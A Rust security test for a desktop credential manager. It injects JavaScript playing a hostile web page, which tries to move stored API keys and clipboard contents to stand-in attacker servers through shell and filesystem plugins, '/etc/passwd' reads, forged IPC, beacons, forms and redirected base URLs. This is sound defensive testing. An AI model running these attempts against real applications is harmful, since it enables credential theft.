//! The hostile page: its script calls every command, in any order, with any arguments, and nobody says yes. No key that is
//! held and nothing of the clipboard reaches a second server, a file, or the page.

use std::sync::atomic::{AtomicBool, Ordering};

use keyrack_tests::app::App;
use keyrack_tests::files;
use keyrack_tests::needle::{Needle, Search};
use keyrack_tests::session::Session;
use loopback::{Answer, Face, Loopback, Script, Setup};
use serde_json::{Value, json};

use crate::providers::Trust;
use crate::steps::{add_client, add_integration, begin_intake, confirm, finish_intake, go};

/// Calls everything with everything. Each call is given a moment; those that ask a person wait for an answer that is no.
const ATTACK: &str = r"
const { targets, client, integration, mine, evil, plain, ca, seed } = given[0];
const invoke = window.__TAURI_INTERNALS__.invoke;
let state = seed;
const random = () => (state = (state * 1103515245 + 12345) % 2147483648) / 2147483648;
const pick = (all) => all[Math.floor(random() * all.length)];
const uuid = '01890000-0000-7000-8000-000000000000';
const ids = [client, integration, mine, uuid, 'x', null];
const texts = [evil, plain, evil + '/collect', 'file:///etc/passwd', '/etc/passwd', '../../keyrack.db', '*', 'token', 'api_key', '', 'a\u0000b', '${token}', '{token}', '{{token}}', '%s', 'https://localhost@' + evil.slice(8), targets + '@' + evil.slice(8)];
const auths = [{ scheme: 'bearer' }, { scheme: 'query', name: 'key' }, { scheme: 'header', header: 'X-Leak', prefix: '' }, { scheme: 'basic' }, { scheme: 'provider' }, { scheme: 'header', header: 'Host', prefix: '' }];
const input = () => ({
  name: 'n' + Math.floor(random() * 1e9), provider: pick(['custom', 'woocommerce', 'shopify', 'slack_webhook', '../x']),
  environment: pick(['production', 'sandbox']), variables: pick([{}, { store_domain: evil.slice(8) }, { store: evil.slice(8) + '/#' }]),
  base_url: pick([evil, plain, targets, null, evil + '/x', 'https://' + evil.slice(8) + '.', targets + '.evil.example']), auth: pick(auths),
  probe: pick(['GET /status', 'GET //' + evil.slice(8) + '/', 'GET ' + evil + '/', 'GET /\\' + evil.slice(8), 'HEAD /', 'POST /', null, 'GET @' + evil.slice(8) + '/']),
  ca_pem: ca, allow_loopback_http: pick([true, false]), notes: '', tags: [], owner: '', rotate_every_days: null,
});
const columns = () => Array.from({ length: 3 }, () => pick([{ role: 'ignore' }, { role: 'client' }, { role: 'base_url' }, { role: 'key', part: '*' }]));
const query = () => ({ client: null, integration: null, verdicts: [], sends_only: false, since: null, until: null, search: pick(texts) });
const board = () => ({ search: pick(texts), health: [], providers: [], tags: [], environments: [], due_soon: false, archived: false, sort: 'name' });
const channel = () => '__CHANNEL__:' + window.__TAURI_INTERNALS__.transformCallback(() => {});
const calls = {
  app: () => ({}), board: () => ({ query: board() }), board_cards: () => ({ query: board(), clients: [pick(ids)] }), board_painted: () => ({}),
  bulk_choose: () => ({ path: pick(texts) }), bulk_map: () => ({ handle: pick(ids), columns: columns(), offset: 0, limit: 4294967295 }),
  bulk_take_in: () => ({ handle: pick(ids), progress: channel() }), ca_choose: () => ({ path: pick(texts) }), client: () => ({ id: pick(ids) }),
  client_add: () => ({ input: { name: 'c' + Math.floor(random() * 1e9), notes: pick(texts), tags: [], owner: '' } }), client_archive: () => ({ id: mine, archived: true }),
  client_duplicate: () => ({ id: client, name: 'd' + Math.floor(random() * 1e9) }), client_edit: () => ({ id: client, revision: pick([0, 1, 2, 3]), input: { name: 'Nordlys', notes: pick(texts), tags: [], owner: '' } }),
  client_remove: () => ({ id: uuid }), client_remove_preview: () => ({ id: client }), clients: () => ({ archived: pick([true, false]) }), doctor: () => ({}),
  integration: () => ({ id: pick(ids) }), integration_add: () => ({ client, input: input() }), integration_archive: () => ({ id: pick([integration, mine]), archived: pick([true, false]) }),
  integration_duplicate: () => ({ id: integration, name: 'k' + Math.floor(random() * 1e9), withKey: pick([true, false]) }),
  integration_edit: () => ({ id: pick([integration, mine]), revision: pick([0, 1, 2, 3, 4, 5]), input: input() }), integration_remove: () => ({ id: mine }),
  integration_remove_preview: () => ({ id: integration }), integrations: () => ({ client: pick([client, null]) }),
  key_add_clipboard: () => ({ integration: pick([integration, mine]), part: pick(texts), confirmed: true, yes: true }), key_add_file: () => ({ integration: pick([integration, mine]), part: 'token', handle: pick(ids), name: pick(texts) }),
  key_add_prompt: () => ({ integration: pick([integration, mine]), part: pick(['token', 'api_key']) }), key_copy: () => ({ integration, part: 'token' }),
  key_file_choose: () => ({ integration: pick([integration, mine]), part: 'token', path: pick(texts) }), key_file_close: () => ({ handle: pick(ids) }), key_forget: () => ({ integration }),
  keyring_check: () => ({}), keyring_unlock: () => ({}), log: () => ({ query: query(), offset: pick([0, 4294967295]), limit: 4294967295 }), log_entry: () => ({ id: pick(ids) }),
  providers: () => ({}), removal_undo: () => ({ undo: pick(ids) }), sample_leave: () => ({}), sample_open: () => ({}), sample_remove: () => ({}),
  settings_save: () => ({ settings: { theme: 'light', clipboard_seconds: 4294967295, keep_days: 1, unsafe_loopback_http: true } }),
  test: () => ({ integration: pick([integration, mine]) }), test_cancel: () => ({ integration: null }), test_many: () => ({ integrations: [integration, mine], progress: channel() }),
};
const own = async () => {
  const view = await invoke('integration', { id: integration }).catch(() => null);
  if (view) await invoke('integration_edit', { id: integration, revision: view.revision, input: { ...view.input, base_url: pick([evil, plain]), allow_loopback_http: true, ca_pem: ca } }).catch(() => null);
};
const moment = (work, most = 250) => Promise.race([work.then(() => 'answered', () => 'refused'), new Promise((done) => setTimeout(done, most, 'waiting'))]);
const names = Object.keys(calls);
const called = {};
for (const name of names.toSorted(() => random() - 0.5).concat(Array.from({ length: 60 }, () => pick(names)))) {
  const sample = name.startsWith('sample_');
  (called[name] ??= []).push(await moment(invoke(name, calls[name]()), sample ? 15000 : 250));
  // In the sample there is nothing to steal: back to the victim.
  if (sample) await moment(invoke('sample_leave'), 15000);
  if (random() < 0.1) await moment(own());
}
return called;
";

/// Ways past the commands: none of them may exist for this page.
const AROUND: &str = r"
const { evil, plain } = given[0];
const invoke = window.__TAURI_INTERNALS__.invoke;
const tried = {};
const attempt = async (name, work) => {
  try { const value = await Promise.race([work(), new Promise((_, no) => setTimeout(no, 1500, 'nothing happened'))]); tried[name] = { value: String(value).slice(0, 200) }; }
  catch (thrown) { tried[name] = { thrown: String(thrown?.message ?? thrown).slice(0, 200) }; }
};
for (const command of ['plugin:fs|read_text_file', 'plugin:fs|read_dir', 'plugin:shell|open', 'plugin:shell|execute', 'plugin:http|fetch', 'plugin:opener|open_url',
  'plugin:clipboard-manager|read_text', 'plugin:dialog|open', 'plugin:event|emit', 'plugin:event|emit_to', 'plugin:webview|create_webview_window', 'plugin:webview|internal_toggle_devtools',
  'plugin:window|create', 'plugin:window|set_title', 'plugin:window|close', 'plugin:path|resolve_directory', 'plugin:app|version', 'plugin:resources|close', 'plugin:image|from_path', 'plugin:menu|new', 'read_file', 'key_value', 'vault_read'])
  await attempt('invoke ' + command, () => invoke(command, { path: '/etc/passwd', url: evil, options: { url: evil, label: 'second' }, event: 'changed', payload: 'x', value: 'x', label: 'main' }));
for (const address of [evil, plain, 'file:///etc/passwd', 'asset://localhost/etc/passwd', 'tauri://localhost/../../../../etc/passwd'])
  await attempt('fetch ' + address, async () => { const answer = await fetch(address, { method: 'POST', mode: 'no-cors', body: 'x' }); const text = await answer.text(); if (answer.type === 'opaque' || text.includes('root:')) return 'got ' + answer.type; throw new Error('status ' + answer.status); });
for (const command of ['app', 'key_copy', 'plugin:fs|read_text_file'])
  await attempt('bare ipc ' + command, async () => { const answer = await fetch('ipc://localhost/' + command, { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess' } }); const text = await answer.text(); if (answer.ok && answer.headers.get('Tauri-Response') === 'ok') return text; throw new Error('status ' + answer.status + text); });
await attempt('image', () => new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = () => no('blocked'); image.src = plain + '/pixel.png?x'; }));
await attempt('websocket', () => new Promise((yes, no) => { const socket = new WebSocket(plain.replace('http', 'ws')); socket.onopen = yes; socket.onerror = () => no('blocked'); }));
await attempt('beacon', async () => { if (!navigator.sendBeacon(plain + '/beacon', 'x')) throw new Error('refused'); throw new Error('queued'); });
await attempt('script', () => new Promise((yes, no) => { const script = document.createElement('script'); script.onload = yes; script.onerror = () => no('blocked'); script.src = plain + '/x.js'; document.head.append(script); }));
await attempt('style', () => new Promise((yes, no) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = yes; link.onerror = () => no('blocked'); link.href = plain + '/x.css'; document.head.append(link); }));
await attempt('frame', () => new Promise((_, no) => { const frame = document.createElement('iframe'); frame.src = plain + '/frame'; document.body.append(frame); setTimeout(() => { frame.remove(); no('nothing'); }, 700); }));
await attempt('form', () => new Promise((_, no) => { const form = document.createElement('form'); form.action = plain + '/form'; form.method = 'post'; document.body.append(form); form.submit(); setTimeout(() => { form.remove(); no('nothing'); }, 700); }));
await attempt('window', async () => { if (window.open(plain + '/window')) return 'opened'; throw new Error('blocked'); });
await attempt('clipboard', async () => await navigator.clipboard.readText());
await attempt('paste', async () => { const area = document.createElement('textarea'); document.body.append(area); area.focus(); document.execCommand('paste'); const got = area.value; area.remove(); if (got) return got; throw new Error('nothing'); });
await attempt('eval', async () => eval('1+1'));
await attempt('navigate', () => new Promise((_, no) => { location.href = plain + '/navigate'; setTimeout(no, 700, 'still here'); }));
return tried;
";

struct Stage<'a> {
    app: &'a App<'a>,
    /// Where the key belongs.
    provider: Loopback,
    /// Where the attacker listens, over TLS that the page can make trusted, and in plain.
    evil: Loopback,
    plain: Loopback,
    held: Needle,
    clipboard: Needle,
    client: String,
    integration: String,
    arguments: Value,
}

async fn stage<'a>(app: &'a App<'a>, trust: &Trust) -> Stage<'a> {
    let held = Needle::letters("held key", "");
    let provider = trust.bearer(&held).await;
    let (evil, plain) = (trust.server(Setup::default().face).await, trust.server(Face::Plain).await);
    for server in [&evil, &plain] {
        server.on("/", Script::always(Answer::json(200, &json!({ "thanks": true }))));
    }
    let client = add_client(app, "Nordlys").await;
    let bearer = json!({ "scheme": "bearer" });
    let input = trust.integration("Order export", &provider, &bearer);
    let integration = add_integration(app, &client, &input).await;
    // The attacker's own integration, which points at the attacker's server.
    let mine = add_integration(app, &client, &trust.integration("Mine", &evil, &bearer)).await;

    go(app, &format!("#/integration/{integration}")).await;
    let owner = app.session.fill_clipboard(&held.key());
    begin_intake(app, "token", "Paste from clipboard").await;
    confirm(app, "k");
    finish_intake(app).await;
    drop(owner);
    let arguments = json!({
        "targets": provider.origin(), "client": client, "integration": integration, "mine": mine,
        "evil": evil.origin(), "plain": plain.origin(), "ca": input["ca_pem"], "seed": 1,
    });
    let clipboard = Needle::letters("clipboard", "");
    Stage { app, provider, evil, plain, held, clipboard, client, integration, arguments }
}

/// Tells the person who says no that it is over, when dropped.
struct Over<'a>(&'a AtomicBool);

impl Drop for Over<'_> {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

/// Answers every native dialog with Escape until it is told to stop; gives how many there were.
fn decline(session: &Session, stop: &AtomicBool) -> u32 {
    let mut declined = 0;
    while !stop.load(Ordering::Relaxed) {
        let dialog = session.windows().into_iter().find(|window| window.title.starts_with("Keyrack: "));
        if let Some(dialog) = dialog {
            // It may be gone by now; then the next look finds another, or none.
            let _ = session.run("xdotool", &["windowactivate", &dialog.id]);
            let _ = session.run("xdotool", &["key", "--clearmodifiers", "Escape"]);
            declined += 1;
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
    }
    declined
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_gets_nothing_and_sends_nothing() {
    let session = Session::with_window();
    let trust = Trust::new();
    let app = App::start(&session).await;
    let mut stage = stage(&app, &trust).await;
    let needles = Search::of([&stage.held, &stage.clipboard]);
    app.record().await;
    let mut owner = session.fill_clipboard(&stage.clipboard.key());

    let stop = AtomicBool::new(false);
    let declined = std::thread::scope(|scope| {
        let declining = scope.spawn(|| decline(&session, &stop));
        // Also when the attack's own assertions fail: else the person would wait for dialogs for ever.
        let over = Over(&stop);
        tokio::task::block_in_place(|| tokio::runtime::Handle::current().block_on(attack(&mut stage)));
        drop(over);
        declining.join().expect("the person who says no")
    });
    assert!(declined > 3, "native dialogs asked, and were declined: {declined}");

    nothing_got_out(&stage, &needles).await;
    assert!(owner.owns(), "the clipboard was not touched");
    assert_eq!(session.clipboard().as_deref(), Some(stage.clipboard.key().as_str()));
    app.photograph("hostile-after").await;
    one_yes_changes_it(&stage, &needles).await;
    app.close().await;
}

async fn attack(stage: &mut Stage<'_>) {
    for seed in 1..=4 {
        stage.arguments["seed"] = json!(seed);
        let called = stage.app.script_async(ATTACK, vec![stage.arguments.clone()]).await;
        let called = called["value"]
            .as_object()
            .unwrap_or_else(|| panic!("the attack itself failed: {called}"))
            .clone();
        assert!(called.len() >= 45, "every command was called: {}", called.len());
        // What it left behind must not hide the victim from the next round.
        let _ = stage
            .app
            .invoke("integration_archive", json!({ "id": stage.integration, "archived": false }))
            .await;
    }
    let tried = stage.app.script_async(AROUND, vec![stage.arguments.clone()]).await;
    let tried = tried["value"]
        .as_object()
        .unwrap_or_else(|| panic!("the attempts themselves failed: {tried}"))
        .clone();
    let came: Vec<_> = tried.iter().filter(|(_, outcome)| outcome.get("value").is_some()).collect();
    assert!(came.is_empty(), "these should not have worked: {came:?}");
    assert!(tried.len() > 30, "{tried:?}");
}

async fn nothing_got_out(stage: &Stage<'_>, needles: &Search) {
    for (name, server) in [("TLS", &stage.evil), ("plain", &stage.plain)] {
        let seen: Vec<String> =
            server.seen().iter().map(|seen| format!("{} {}", seen.method, seen.target)).collect();
        assert_eq!(seen, Vec::<String>::new(), "the attacker's server ({name}) was asked nothing");
        assert!(!server.arrived(&stage.held.key()) && !server.arrived(&stage.clipboard.key()));
    }
    for message in stage.app.recorded().await {
        assert_eq!(needles.find(message.as_bytes()), [], "in a message to the page");
    }
    assert_eq!(needles.find(stage.app.markup().await.as_bytes()), [], "on the page");
    let found = stage.app.search_web_memory(needles);
    assert!(found.hits.is_empty(), "in the web view's memory:\n{}", found.report());
    let session = stage.app.session;
    for folder in [session.data_dir(), session.path("home"), session.path("config"), session.path("run")] {
        let found = files::search(&folder, needles).expect("readable");
        assert!(found.hits.is_empty(), "in a file: {:?}", found.hits);
    }
    let view =
        stage.app.invoke("integration", json!({ "id": stage.integration })).await.expect("it is still there");
    assert_eq!(view["input"]["base_url"], stage.provider.origin(), "it still points where it did");
    assert!(view["keys"][0]["held"].is_object(), "and its key is still held");
    assert!(stage.app.invoke("client", json!({ "id": stage.client })).await.is_ok());
}

/// The same servers do get the key when a person says yes: the test above can fail.
async fn one_yes_changes_it(stage: &Stage<'_>, needles: &Search) {
    let app = stage.app;
    let view = app.invoke("integration", json!({ "id": stage.integration })).await.expect("a view");
    let mut input = view["input"].clone();
    input["base_url"] = json!(stage.evil.origin());
    app.begin(
        "integration_edit",
        json!({ "id": stage.integration, "revision": view["revision"], "input": input }),
    )
    .await;
    app.session.focus("Keyrack: confirm");
    app.photograph_screen("hostile-rebind");
    confirm(app, "a");
    app.answer("integration_edit").await.expect("a person said yes");
    app.invoke("test", json!({ "integration": stage.integration })).await.expect("a send");
    assert!(stage.evil.arrived(&stage.held.key()), "after a yes the key goes there");
    let deliver = "const { transformCallback, runCallback } = window.__TAURI_INTERNALS__;\
                   runCallback(transformCallback(() => {}), arguments[0])";
    app.script(deliver, vec![json!(stage.clipboard.key())]).await;
    let recorded = app.recorded().await;
    assert!(
        recorded.iter().any(|message| !needles.find(message.as_bytes()).is_empty()),
        "a message with a key is found"
    );
}
